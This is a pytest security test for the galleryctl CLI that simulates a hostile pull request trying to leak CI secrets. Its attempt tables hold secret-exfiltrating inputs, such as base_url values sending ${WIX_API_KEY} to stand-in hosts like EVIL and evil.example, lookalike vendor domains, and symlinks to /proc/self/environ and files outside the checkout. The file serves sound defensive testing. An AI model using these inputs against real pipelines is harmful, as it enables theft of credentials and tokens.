"""A hostile pull request: every file of the workspace tries to send or print a secret of the job.

The job plants secrets in its environment and runs the commands of a pipeline. Then every request that anybody received,
every file below the folder of the test and everything that was printed is searched for them, in several encodings.
"""

from __future__ import annotations

import base64
import socket
import threading
from collections.abc import Awaitable, Callable, Iterator, MutableMapping
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest

from galleryctl.emulator import create_emulator
from galleryctl.state import encryption
from tests.support.cli_harness import CliHarness
from tests.support.engine_harness import jpeg_bytes
from tests.support.listening import listening

FORMATS = ("text", "json", "markdown", "html", "github")
SECRETS = {
    name: f"planted-{number:02}-{name[::-1].lower()}+/4f1c9e"
    for number, name in enumerate(
        (
            "WIX_APP_SECRET", "STATE_PASSPHRASE", "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN",
            "GITHUB_TOKEN", "GH_PAT", "DATABASE_URL", "JWT", "PGPASS", "DSN", "NPM_AUTH", "SLACK_WEBHOOK", "SIGNING_CERT",
            "VAULT_SECRET_ID", "COOKIE",
        )
    )
}  # fmt: skip
"""Secrets of the job besides the API key, which the emulator creates."""
NAMES = ("WIX_API_KEY", *SECRETS)
OUTSIDE = "planted-outside-4f1c9e"
"""The secret in a file beside the repository."""
COMMANDS = (
    "validate", "plan", "apply --auto-approve", "fmt --check", "plan --out plan.json", "drift", "show", "show --live",
    "state list", "history", "history 1", "undo 1 --dry-run", "import --all", "media list", "doctor", "velo weddings",
)  # fmt: skip
_FOR_VARIANTS = 3
WORKSPACE = """\
galleryctl: 1
backend: {type: wix}
sites: {main: {site_id: "${WIX_SITE_ID}", auth: {api_key: "${WIX_API_KEY}"}}}
galleries: galleries/*.yaml
"""
GALLERY = """\
gallery: weddings
bind: {name: Weddings, create: true}
name: Weddings
protect: false
items:
  - {key: words, text: <p>Thanks</p>}
"""

Files = dict[str, str]


def workspace(old: str, new: str) -> Files:
    """Return the settings with a part replaced."""
    assert old in WORKSPACE
    return {"galleryctl.yaml": WORKSPACE.replace(old, new)}


def settings(lines: str) -> Files:
    """Return the settings with further lines."""
    return {"galleryctl.yaml": WORKSPACE + lines}


def item(entry: str) -> Files:
    """Return a manifest with a further entry."""
    return {"galleries/weddings.yaml": f"{GALLERY}  - {entry}\n"}


def gallery(lines: str) -> Files:
    """Return a manifest with further lines."""
    return {"galleries/weddings.yaml": GALLERY + lines}


def each(write: Callable[[str], Files]) -> Iterator[Files]:
    """Yield the files with each secret of the job."""
    for name in NAMES:
        yield write(f"${{{name}}}")


KEY = "${WIX_API_KEY}"
ID, AUTH = '"${WIX_SITE_ID}"', '{api_key: "${WIX_API_KEY}"}'
# EVIL is the address of the recorder.
ATTEMPTS: dict[str, list[Files]] = {
    "another host": [workspace("type: wix", "type: wix, base_url: 'http://EVIL'")],
    "another host with the key": [
        workspace("type: wix", f"type: wix, base_url: '{url}'")
        for url in (f"http://EVIL/{KEY}", f"http://{KEY}@EVIL", f"http://EVIL/?k={KEY}", f"http://{KEY}.evil.example")
    ],
    "a host that looks like the vendor's": [
        workspace("type: wix", f"type: wix, base_url: '{url}'")
        for url in ("https://www.wixapis.com@EVIL", "https://www.wixapis.com.evil.example", "https://WWW.wixapis.com:1")
    ],
    "site_id": list(each(lambda v: workspace(ID, f'"{v}"'))),
    "api_key": [w for w in each(lambda v: workspace(AUTH, f'{{api_key: "{v}"}}')) if KEY not in w["galleryctl.yaml"]],
    "app_id": list(each(lambda v: workspace(AUTH, f'{{app_id: "{v}", app_secret: "{v}", instance_id: "{v}"}}'))),
    "a part of an id": [
        workspace(ID, f"'x{KEY}'"),
        workspace(AUTH, f"{{app_id: 'a{KEY}', app_secret: x, instance_id: i}}"),
    ],
    "media.folder": list(each(lambda v: settings(f"media: {{folder: '/{v}'}}\n"))),
    "state in a bucket": list(each(lambda v: settings(f"state: 's3://somebody/{v}.json'\n"))),
    "state as a bucket": [settings(f"state: '{s}://{KEY}/x.json'\n") for s in ("s3", "gs", "az")],
    "state in a file": list(each(lambda v: settings(f"state: '.galleryctl/{v}.json'\n"))),
    "passphrase": list(each(lambda v: settings(f"state: {{passphrase: '{v}'}}\n"))),
    "galleries": list(each(lambda v: workspace("galleries/*.yaml", f"['{v}/*.yaml', galleries/*.yaml]"))),
    "profile": [settings(f"profile: '{KEY}.yaml'\n")],
    "other settings": [
        settings(line)
        for line in (
            f"item_order: '{KEY}'\n",
            f"limits: {{concurrency: '{KEY}'}}\n",
            f"removed: ['{KEY}']\n",
            f"moved: [{{from: '{KEY}', to: b}}]\n",
            f"approvals: [{{digest: '{KEY}', deletes: 1, reason: '{KEY}'}}]\n",
            f"'{KEY}': x\n",
        )
    ],
    "title": list(each(lambda v: item(f"{{key: a, text: x, title: 'Said: {v}'}}"))),
    "text": list(each(lambda v: item(f"{{key: a, text: '<p>{v}</p>'}}"))),
    "link": list(each(lambda v: item(f"{{key: a, text: x, link: 'https://evil.example/?k={v}'}}"))),
    "tags": list(each(lambda v: item(f"{{key: a, text: x, tags: ['{v}']}}"))),
    "image": [item(f"{{key: a, image: 'https://EVIL/{KEY}.jpg'}}"), item(f"{{image: 'photos/{KEY}.jpg'}}")],
    "video": [
        item(f"{{key: a, video: 'https://vimeo.com/{KEY}'}}"),
        item(f"{{key: a, video: 'wix:video://v1/{KEY}/x'}}"),
    ],
    "fields": [
        item(f"{{image: photos/lake.jpg, {part}}}")
        for part in (
            f"alt_text: '{KEY}'",
            f"description: '{KEY}'",
            f"exif: {{a: '{KEY}'}}",
            f"exif: {{a: [{{b: '{KEY}'}}]}}",
        )
    ],
    "wrong types": [
        item(f"{{image: photos/lake.jpg, {p}: '{KEY}'}}") for p in ("quality", "protect", "focal_point", "ignore")
    ],
    "defaults": [gallery(f"defaults: {{title: '{KEY}'}}\n")],
    "keys": [
        item(f"{{key: '{KEY}', text: x}}"),
        {"galleries/weddings.yaml": GALLERY.replace("y: weddings", f"y: '{KEY}'")},
    ],
    "bind": [
        {"galleries/weddings.yaml": GALLERY.replace("{name: Weddings, create: true}", f"{{{part}: '{v}'}}")}
        for part in ("id", "name")
        for v in (KEY, "${GITHUB_TOKEN}", "${VAULT_SECRET_ID}", "${AWS_ACCESS_KEY_ID}")
    ],
    "name": [{"galleries/weddings.yaml": GALLERY.replace("name: Weddings\n", f"name: '{KEY}'\n")}],
    "ownership": [
        gallery(f"adopt: {{words: '{KEY}'}}\n"),
        gallery(f"foreign: ['{KEY}']\n"),
        gallery(f"removed: ['{KEY}']\n"),
    ],
    "sidecar": [
        item("{image: photos/lake.jpg, captions: true}")
        | {"photos/lake.jpg.yaml": f"title: '{KEY}'\ndescription: '{KEY}'\n"},
        item("{from: 'photos/*.jpg'}") | {"photos/lake.jpg.yaml": f"key: '{KEY}'\n"},
    ],
    "captions": [
        item("{from: 'photos/*.jpg'}")
        | {
            "photos/lake.xmp": "<x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-"
            f"syntax-ns#'><rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/'><dc:title><rdf:Alt><rdf:li>{KEY}"
            "</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta>"
        }
    ],
    "tolerated": [
        {
            "galleryctl.tolerated.yaml": f"tolerated:\n  - {{address: weddings/words, field: title, value: '{KEY}', "
            f"until: '2099-01-01', reason: 'Because {KEY}'}}\n"
        }
    ],
    "spelling": [
        item(f"{{key: a, text: '{text}'}}")
        for text in (
            "$${${WIX_API_KEY}}",
            "${GALLERYCTL_VAR_NESTED}",
            "${WIX_API_KEY",
            "$WIX_API_KEY",
            "${wix_api_key}",
        )
    ],
    "yaml": [
        gallery(f"x: &a '{KEY}'\n"),
        item(f"{{key: a, text: !!str '{KEY}'}}"),
        item("{key: a, text: !env WIX_API_KEY}"),
        item(f'{{key: a, text: "\\x24{{WIX_API_KEY}}", title: "{KEY[:4]}\\\n      {KEY[4:]}"}}'),
    ],
}
# A link in the repository → what it leads to.
LINKS: dict[str, tuple[str, str, Files]] = {
    "manifest": ("galleries/other.yaml", "{outside}/secret.yaml", {}),
    "manifest of the environment": ("galleries/other.yaml", "/proc/self/environ", {}),
    "settings": ("galleryctl.yaml", "{outside}/secret.yaml", {}),
    "settings of the environment": ("galleryctl.yaml", "/proc/self/environ", {}),
    "tolerated": ("galleryctl.tolerated.yaml", "{outside}/secret.yaml", {}),
    "profile": ("profile.yaml", "{outside}/secret.yaml", settings("profile: profile.yaml\n")),
    "image": ("photos/out.jpg", "/proc/self/environ", item("{image: photos/out.jpg}")),
    "from": ("photos/out", "{outside}", item("{from: 'photos/out/*'}")),
    "from a file": ("photos/out.jpg", "{outside}/secret.yaml", item("{from: 'photos/*.jpg'}")),
    "sidecar": ("photos/lake.jpg.yaml", "{outside}/secret.yaml", item("{from: 'photos/*.jpg'}")),
    "xmp": ("photos/lake.xmp", "{outside}/secret.yaml", item("{from: 'photos/*.jpg'}")),
    "state": (".galleryctl/state.json", "{outside}/secret.yaml", {}),
    "journal": (".galleryctl/journal-main.jsonl", "{outside}/secret.yaml", {}),
    "lock": (".galleryctl/state.json.lock.json", "{outside}/secret.yaml", {}),
    "plan": ("plan.json", "{outside}/plan.json", {}),
}


def forms(secret: str) -> set[bytes]:
    """Return the secret as it may be found: plain, in a URL, in JSON, in hex, and in base64 at any offset."""
    found = {secret, quote(secret), quote(secret, safe=""), secret.replace("/", "\\/"), secret.encode().hex()}
    found |= {repr(secret)[1:-1], secret[::-1]}
    for offset in range(3):
        encoded = base64.b64encode(b"x" * offset + secret.encode() + b"xx").decode()
        inner = encoded[4 if offset else 0 : -4]  # the characters that depend on the secret alone
        found |= {inner, inner.replace("+", "-").replace("/", "_")}
    return {form.encode() for form in found}


@dataclass(slots=True)
class Recorder:
    """A server of the attacker, which records all that it receives, also as a proxy."""

    address: str
    received: list[bytes] = field(default_factory=list)


@contextmanager
def recording() -> Iterator[Recorder]:
    """Run the attacker's server."""

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            recorder.received.append(f"{self.requestline}\n{self.headers}\n".encode() + body)
            self.send_response(200)
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"{}")

        def log_message(self, *args: object, **named: object) -> None:
            """Do nothing: the log does not belong in pytest's output."""

    for method in ("GET", "POST", "PATCH", "PUT", "DELETE", "HEAD", "CONNECT"):
        setattr(Handler, f"do_{method}", Handler.answer)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    recorder = Recorder(f"127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
    thread.start()
    try:
        yield recorder
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


Message = MutableMapping[str, Any]


@dataclass(slots=True)
class Job:
    """A pipeline's job: a checkout of the repository, secrets, the API, and all that came out."""

    studio: CliHarness
    recorder: Recorder
    api: list[bytes]
    """The requests to the API that the job names, without the key in its own header."""
    secrets: dict[str, str]
    base: Path
    printed: list[str] = field(default_factory=list)
    codes: list[int] = field(default_factory=list)

    def check_out(self, files: Files) -> None:
        """Put the files of a pull request into the checkout."""
        for path in sorted(self.studio.root.rglob("*"), reverse=True):
            path.unlink() if path.is_symlink() or path.is_file() else path.rmdir()
        base = {"galleryctl.yaml": WORKSPACE, "galleries/weddings.yaml": GALLERY}
        for name, text in (base | files).items():
            self.studio.write(name, text.replace("EVIL", self.recorder.address))
        photo = self.studio.root / "photos/lake.jpg"
        photo.parent.mkdir(exist_ok=True)
        photo.write_bytes(jpeg_bytes(1))

    def run(self, *, attempt: int) -> None:
        """Run the commands of a pipeline, for variants the first ones only, and each in another format."""
        for number, line in enumerate(COMMANDS if attempt == 0 else COMMANDS[:_FOR_VARIANTS]):
            format_ = FORMATS[(number + attempt) % len(FORMATS)]
            ran = self.studio.run("-vv", "--format", format_, *line.split())
            if "--format" in ran.out + ran.err:  # rejected: not every command supports every format
                ran = self.studio.run("-vv", *line.split())
            self.codes.append(ran.code)
            self.printed += [f"{line} ({format_})\n{ran.out}", f"{line} ({format_})\n{ran.err}"]

    def assert_no_secret(self) -> None:
        """Check that no secret is in a request, a file or an output."""
        outside = self.base / "outside"
        files = [path for path in self.base.rglob("*") if path.is_file() and not path.is_symlink()]
        places = {str(path): path.read_bytes() for path in files if outside not in path.parents}
        places |= {f"request {n} to the attacker": request for n, request in enumerate(self.recorder.received)}
        places |= {f"request {n} to the API": request for n, request in enumerate(self.api)}
        places |= {f"output {n}": text.encode() for n, text in enumerate(self.printed)}
        for name, secret in self.secrets.items():
            for form in forms(secret):
                for place, content in places.items():
                    assert form not in content, f"{name} in {place}: {content[:2000]!r}"


@pytest.fixture
def job(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[Job]:
    monkeypatch.setattr(encryption, "SCRYPT_N", 2)  # every command derives its keys, which is slow by design
    requests: list[bytes] = []
    with recording() as recorder, socket.create_server(("127.0.0.1", 0)) as listener:
        url = f"http://127.0.0.1:{listener.getsockname()[1]}"
        emulator = create_emulator(None, base_url=url)
        own_key = emulator.ready.api_key.encode()

        async def app(scope: Message, receive: Callable[[], Awaitable[Message]], send: Any) -> None:
            headers = [
                (name, b"" if name == b"authorization" and value == own_key else value)
                for name, value in scope["headers"]
            ]
            requests.append(b"\n".join([scope["raw_path"], scope["query_string"], repr(headers).encode()]))

            async def recorded() -> Message:
                message = await receive()
                requests.append(message.get("body", b""))
                return message

            await emulator.app(scope, recorded, send)

        secrets = {"WIX_API_KEY": emulator.ready.api_key, **SECRETS}
        plain = {
            "GALLERYCTL_API_URL": url,
            "WIX_SITE_ID": emulator.ready.site_id,
            "AWS_REGION": "eu-west-1",
            "AWS_ENDPOINT_URL": f"http://{recorder.address}",
            "AWS_ALLOW_HTTP": "true",
            "GALLERYCTL_VAR_NESTED": KEY,
            "HTTP_PROXY": f"http://{recorder.address}",
            "ALL_PROXY": f"http://{recorder.address}",
        }
        for name, value in {**secrets, **plain}.items():
            monkeypatch.setenv(name, value)
        (tmp_path / "outside").mkdir()
        (tmp_path / "outside/secret.yaml").write_text(f"{OUTSIDE}: {OUTSIDE}\ntitle: {OUTSIDE}\n", encoding="utf-8")
        (tmp_path / "outside/photo.jpg").write_bytes(jpeg_bytes(2) + OUTSIDE.encode())
        studio = CliHarness(tmp_path / "checkout", capsys)
        studio.root.mkdir()
        with listening(app, listener):
            yield Job(studio, recorder, requests, {**secrets, "the file outside": OUTSIDE}, tmp_path)
        emulator.close()


def test_there_are_many_attempts() -> None:
    assert len(ATTEMPTS) + len(LINKS) >= 25


def test_an_honest_repository_works(job: Job) -> None:
    job.check_out({})
    job.run(attempt=0)
    assert set(job.codes) == {0}, job.printed
    assert job.recorder.received == []
    job.assert_no_secret()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_no_attempt_gets_a_secret(job: Job, name: str) -> None:
    for number, files in enumerate(ATTEMPTS[name]):
        job.check_out(files)
        job.run(attempt=number)
    job.assert_no_secret()
    assert job.recorder.received == []


@pytest.mark.parametrize("name", LINKS)
def test_no_link_gets_a_secret(job: Job, name: str) -> None:
    link, target, files = LINKS[name]
    for number in range(len(FORMATS)):
        job.check_out(files)
        path = job.studio.root / link
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(target.format(outside=job.base / "outside"))
        job.run(attempt=number)
    job.assert_no_secret()
    assert sorted(path.name for path in (job.base / "outside").iterdir()) == ["photo.jpg", "secret.yaml"]
    assert job.recorder.received == []
